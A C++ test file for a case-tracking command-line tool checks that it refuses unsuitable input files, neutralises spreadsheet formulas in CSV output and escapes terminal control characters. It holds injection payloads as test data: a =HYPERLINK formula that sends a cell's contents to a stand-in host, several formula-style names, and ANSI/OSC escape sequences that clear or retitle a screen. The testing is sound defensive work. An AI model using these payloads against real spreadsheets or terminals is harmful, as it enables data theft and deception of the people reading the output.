// Files and output, as the real `alur` binary meets them.
//
// Story: a BKPSDM operator points Alur at the wrong things — a directory, a
// device, a FIFO, a file far too big — as its configuration, holiday file,
// roster or notice file; each is refused at once naming the path, and nothing
// waits on the FIFO. The roster also arrives on standard input from another
// program. Then a hostile clerk types a spreadsheet formula as a reason and as
// an official's name, and an old journal holds a reason with an ANSI escape
// sequence: the CSV an auditor opens runs no formula, NIPs stay text, and the
// auditor's terminal shows the escape sequence instead of obeying it.
#include "roster_rows.hpp"
#include "scenario_cli.hpp"

#include <pty.h>
#include <sys/stat.h>

#include <cerrno>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

using alur::scenario::Cli;
using alur::test::shell_quote;
using namespace alur::test::roster_rows;

namespace {

bool contains(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

/// `alur` with the given arguments, at most 60 s (a command that waited on a
/// FIFO would fail the test with exit 124 instead of hanging it).
alur::test::RunResult bounded(const Cli& cli, const std::vector<std::string>& args, const std::string& input = {}) {
    return alur::test::run("timeout 60 sh -c " + shell_quote(cli.line(args)) + input);
}

/// A FIFO nobody writes to.
std::string make_fifo(const Cli& cli, const std::string& name) {
    const std::string path = (cli.dir / name).string();
    REQUIRE(::mkfifo(path.c_str(), 0600) == 0);
    return path;
}

/// A sparse file of `bytes` bytes: costs no disk, and is never read.
std::string make_sized(const Cli& cli, const std::string& name, std::uintmax_t bytes) {
    const auto path = cli.dir / name;
    std::ofstream(path, std::ios::binary) << header;
    std::filesystem::resize_file(path, bytes);
    return path.string();
}

struct TerminalRun {
    int exit_code = -1;
    std::string screen;  ///< everything the terminal received (stdout and stderr)
};

/// Runs `command_line` with its output on a pseudo-terminal, as an auditor at
/// a terminal runs it.
TerminalRun run_on_terminal(const std::string& command_line) {
    int master = -1;
    const pid_t pid = ::forkpty(&master, nullptr, nullptr, nullptr);
    REQUIRE(pid >= 0);
    if (pid == 0) {
        ::execl("/bin/sh", "sh", "-c", command_line.c_str(), static_cast<char*>(nullptr));
        ::_exit(127);
    }
    TerminalRun out;
    char buffer[4096];
    while (true) {
        const ssize_t n = ::read(master, buffer, sizeof buffer);
        if (n > 0) out.screen.append(buffer, static_cast<std::size_t>(n));
        else if (n < 0 && errno == EINTR) continue;
        else break;  // EIO: the child closed the terminal
    }
    int status = 0;
    ::waitpid(pid, &status, 0);
    ::close(master);
    out.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    return out;
}

/// Runs an SQL statement on the case database behind Alur's back, as an old
/// journal (written before text was checked) or an edited one would hold it.
void sql(const Cli& cli, const std::string& statement) {
    auto r = alur::test::run("sqlite3 " + shell_quote(cli.db()) + " " + shell_quote(statement));
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
}

}  // namespace

TEST_CASE("roster import reads a regular file or - only: a directory, /dev/zero, a FIFO or 201 MiB is refused",
          "[scenario][files][roster]") {
    Cli cli;
    REQUIRE(cli({"init"}).exit_code == 0);
    std::filesystem::create_directory(cli.dir / "exports");
    const std::string dir = (cli.dir / "exports").string();
    const std::string fifo = make_fifo(cli, "roster.fifo");
    const std::string huge = make_sized(cli, "huge.csv", 201ull * 1024 * 1024);

    struct Case {
        std::string path;
        std::string message;
    };
    for (const Case& c : {Case{dir, dir + " adalah direktori, bukan berkas biasa"},
                          Case{"/dev/zero", "/dev/zero adalah perangkat karakter, bukan berkas biasa"},
                          Case{fifo, fifo + " adalah FIFO (pipa bernama), bukan berkas biasa"},
                          Case{huge, huge + " lebih besar dari 200 MiB"}}) {
        INFO(c.path);
        auto r = bounded(cli, {"roster", "import", c.path});
        INFO(r.err);
        CHECK(r.exit_code == 2);
        CHECK(contains(r.err, c.message));
    }
    auto missing = bounded(cli, {"roster", "import", "absent.csv"});
    CHECK(missing.exit_code == 4);
    CHECK(contains(missing.err, "berkas absent.csv tidak ada"));

    auto english = bounded(cli, {"--lang", "en", "roster", "import", fifo});
    CHECK(english.exit_code == 2);
    CHECK(contains(english.err, fifo + " is a FIFO (named pipe), not a regular file"));

    auto listed = cli({"roster", "list", "--format", "json"});
    REQUIRE(listed.exit_code == 0);
    CHECK(boost::json::parse(listed.out).as_array().empty());  // nothing was imported
}

TEST_CASE("roster import - reads standard input, from a redirect or another program, up to 200 MiB",
          "[scenario][files][roster]") {
    Cli cli;
    REQUIRE(cli({"init"}).exit_code == 0);
    const std::string file = (cli.dir / "roster.csv").string();
    std::ofstream(file, std::ios::binary) << header + hendra + rina;

    auto redirected = bounded(cli, {"roster", "import", "-"}, " < " + shell_quote(file));
    INFO(redirected.err);
    REQUIRE(redirected.exit_code == 0);
    CHECK(contains(redirected.out, "2 ditambahkan, 0 diubah, 0 tetap"));

    std::ofstream(file, std::ios::binary) << header + hendra + rina + yusuf;
    auto piped =
        alur::test::run("cat " + shell_quote(file) + " | (" + cli.line({"roster", "import", "--dry-run", "-"}) + ")");
    INFO(piped.err);
    REQUIRE(piped.exit_code == 0);
    CHECK(contains(piped.out, "uji coba - (sha256 "));
    CHECK(contains(piped.out, "1 akan ditambahkan, 0 akan diubah, 2 tetap"));

    auto endless = bounded(cli, {"roster", "import", "-"}, " < /dev/zero");
    CHECK(endless.exit_code == 2);
    CHECK(contains(endless.err, "masukan standar lebih besar dari 200 MiB"));
}

TEST_CASE("a configuration or holiday file that is no regular file of at most 1 MiB is refused naming it",
          "[scenario][files][config]") {
    Cli cli;
    REQUIRE(cli({"init"}).exit_code == 0);
    const std::string fifo = make_fifo(cli, "alur.fifo");
    const std::string big = make_sized(cli, "big.toml", 2 * 1024 * 1024);
    const auto with_config = [&](const std::string& config) {
        return alur::test::run("timeout 60 " + shell_quote(alur::scenario::alur_bin) + " --db " + shell_quote(cli.db()) +
                               " --config " + shell_quote(config) + " list");
    };
    struct Case {
        std::string path;
        std::string message;
    };
    for (const Case& c : {Case{cli.dir.path().string(), " is a directory, not a regular file"},
                          Case{"/dev/zero", " is a character device, not a regular file"},
                          Case{fifo, " is a FIFO, not a regular file"}, Case{big, " is larger than 1 MiB"}}) {
        INFO(c.path);
        auto r = with_config(c.path);
        INFO(r.err);
        CHECK(r.exit_code == 2);
        CHECK(contains(r.err, "configuration file " + c.path + c.message));
    }
    CHECK(with_config((cli.dir / "absent.toml").string()).exit_code == 4);

    std::ofstream(cli.config()) << "[calendar]\nholiday_files = [\"alur.fifo\"]\n";
    auto holiday = bounded(cli, {"list"});
    INFO(holiday.err);
    CHECK(holiday.exit_code == 2);
    CHECK(contains(holiday.err, cli.config() + ":2: calendar.holiday_files[0]: holiday file " + fifo +
                                    " is a FIFO, not a regular file"));

    std::ofstream(cli.config()) << "[agency]\nname = \"Dinas\\u001b[2J\"\n";
    auto text = cli({"list"});
    CHECK(text.exit_code == 2);
    CHECK(contains(text.err, cli.config() + ":2: agency.name: contains the control character U+001B"));
}

TEST_CASE("the notice file must be a regular file or absent: run-due refuses a directory or a FIFO",
          "[scenario][files][notify]") {
    Cli cli;  // [notify] channels = ["file"], path = "notices.jsonl" next to alur.toml
    REQUIRE(cli({"init"}).exit_code == 0);
    cli.open_case("2025-09-01 08:30");

    std::filesystem::create_directory(cli.notices_file());
    auto dir = bounded(cli, {"run-due"});
    CHECK(dir.exit_code == 2);
    CHECK(contains(dir.err, "notice file " + cli.notices_file() + " is a directory, not a regular file"));

    std::filesystem::remove(cli.notices_file());
    make_fifo(cli, "notices.jsonl");
    auto fifo = bounded(cli, {"run-due"});
    CHECK(fifo.exit_code == 2);
    CHECK(contains(fifo.err, "notice file " + cli.notices_file() + " is a FIFO, not a regular file"));

    std::filesystem::remove(cli.notices_file());
    auto absent = bounded(cli, {"run-due"});
    INFO(absent.err);
    CHECK(absent.exit_code == 0);
}

TEST_CASE("CSV runs no formula: a reason typed as =HYPERLINK is written with a ' in front", "[scenario][csv]") {
    Cli cli;
    REQUIRE(cli({"init"}).exit_code == 0);
    const std::string id = cli.open_case("2025-09-01 08:30");
    const std::string formula = "=HYPERLINK(\"http://example.com/x?d=\"&A1,\"klik\")";
    auto r = cli({"advance", id, "record_added", "item=skp", "value=lengkap", "source=BKPSDM", "--actor=-sari",
                  "--reason", formula, "--at", "2025-09-03 10:00"});
    INFO(r.err);
    REQUIRE(r.exit_code == 0);

    const std::string quoted_formula = "\"'=HYPERLINK(\"\"http://example.com/x?d=\"\"&A1,\"\"klik\"\")\"";
    auto history = cli({"history", id, "--format", "csv"});
    REQUIRE(history.exit_code == 0);
    CHECK(contains(history.out, ",'-sari,"));
    CHECK(contains(history.out, quoted_formula));
    CHECK_FALSE(contains(history.out, ",=HYPERLINK"));
    CHECK_FALSE(contains(history.out, ",\"=HYPERLINK"));

    const std::string out = (cli.dir / "journal.csv").string();
    auto exported = cli({"export", "--format", "csv", "--out", out});
    INFO(exported.err);
    REQUIRE(exported.exit_code == 0);
    std::ifstream in(out, std::ios::binary);
    const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    CHECK(contains(text, quoted_formula));

    // JSON carries the value exactly as stored.
    auto json = cli.json({"history", id, "--json"}).as_array();
    REQUIRE(json.size() == 2);
    CHECK(json[1].at("reason").as_string() == formula);
    CHECK(json[1].at("actor").as_string() == "-sari");
}

TEST_CASE("roster list --format csv: names that look like formulas are prefixed, NIPs are text, and it re-imports",
          "[scenario][csv][roster]") {
    Cli cli;
    REQUIRE(cli({"init"}).exit_code == 0);
    const std::string rows = header +
                             "197603152005011002,=SUM(A1:A9),jpt_pratama,@Kepala Dinas,+62 Dinas,2021-03-08,"
                             "1976-03-15\n"
                             "198807302012122001,-Rina Marlina,administrator,'Sekretaris,Dinas Kesehatan,2022-01-10,"
                             "1988-07-30\n";
    const std::string file = (cli.dir / "roster.csv").string();
    std::ofstream(file, std::ios::binary) << rows;
    auto imported = cli({"roster", "import", file});
    INFO(imported.err);
    REQUIRE(imported.exit_code == 0);

    auto listed = cli({"roster", "list", "--format", "csv"});
    REQUIRE(listed.exit_code == 0);
    CHECK(contains(listed.out, "\"'197603152005011002\",'=SUM(A1:A9),jpt_pratama,'@Kepala Dinas,'+62 Dinas,"));
    CHECK(contains(listed.out, "\"'198807302012122001\",'-Rina Marlina,administrator,''Sekretaris,Dinas Kesehatan,"));

    std::ofstream(file, std::ios::binary) << listed.out;
    auto again = cli({"roster", "import", file});
    INFO(again.err);
    REQUIRE(again.exit_code == 0);
    CHECK(contains(again.out, "0 ditambahkan, 0 diubah, 2 tetap"));

    auto json = cli.json({"roster", "list", "--format", "json"}).as_array();
    REQUIRE(json.size() == 2);
    CHECK(json[0].at("name").as_string() == "=SUM(A1:A9)");  // by unit: "+62 Dinas" first
    CHECK(json[0].at("post").as_string() == "@Kepala Dinas");
    CHECK(json[0].at("unit").as_string() == "+62 Dinas");
    CHECK(json[1].at("nip").as_string() == "198807302012122001");
    CHECK(json[1].at("name").as_string() == "-Rina Marlina");
    CHECK(json[1].at("post").as_string() == "'Sekretaris");
}

TEST_CASE("on a terminal, stored control characters are shown escaped, never obeyed", "[scenario][terminal]") {
    Cli cli;
    REQUIRE(cli({"init"}).exit_code == 0);
    const std::string id = cli.open_case("2025-09-01 08:30");
    auto r = cli({"advance", id, "record_added", "item=skp", "value=lengkap", "source=BKPSDM", "--actor", "sari",
                  "--reason", "baris satu\n#9  approved  2025-09-04\tpalsu", "--at", "2025-09-03 10:00"});
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
    // An old journal: the reason of the opening event clears the screen and writes over it.
    sql(cli, "UPDATE events SET reason = 'Disetujui' || char(27) || '[2J' || char(27) || '[1;1H' || 'Ditolak' || "
             "char(13) || char(155) || 'X' WHERE seq = 1");
    const std::string file = (cli.dir / "roster.csv").string();
    std::ofstream(file, std::ios::binary) << header + hendra;
    REQUIRE(cli({"roster", "import", file}).exit_code == 0);
    sql(cli, "UPDATE roster SET name = 'Hendra' || char(27) || ']0;judul' || char(7) WHERE nip = '197603152005011002'");

    auto history = run_on_terminal(cli.line({"history", id}));
    INFO(history.screen);
    CHECK(history.exit_code == 0);
    CHECK_FALSE(contains(history.screen, "\x1b"));
    CHECK_FALSE(contains(history.screen, "\xc2\x9b"));
    CHECK(contains(history.screen, "Disetujui\\x1B[2J\\x1B[1;1HDitolak\\r\\u009BX"));
    CHECK(contains(history.screen, "baris satu\\n#9  approved  2025-09-04\\tpalsu"));

    auto roster = run_on_terminal(cli.line({"roster", "list"}));
    INFO(roster.screen);
    CHECK_FALSE(contains(roster.screen, "\x1b"));
    CHECK(contains(roster.screen, "Hendra\\x1B]0;judul\\x07"));

    auto csv = run_on_terminal(cli.line({"history", id, "--format", "csv"}));
    CHECK_FALSE(contains(csv.screen, "\x1b"));

    // Into a pipe or a file the CSV and JSON stay exactly as stored.
    auto piped = cli({"history", id, "--format", "csv"});
    REQUIRE(piped.exit_code == 0);
    CHECK(contains(piped.out, "Disetujui\x1b[2J\x1b[1;1HDitolak\r\xc2\x9bX"));
}
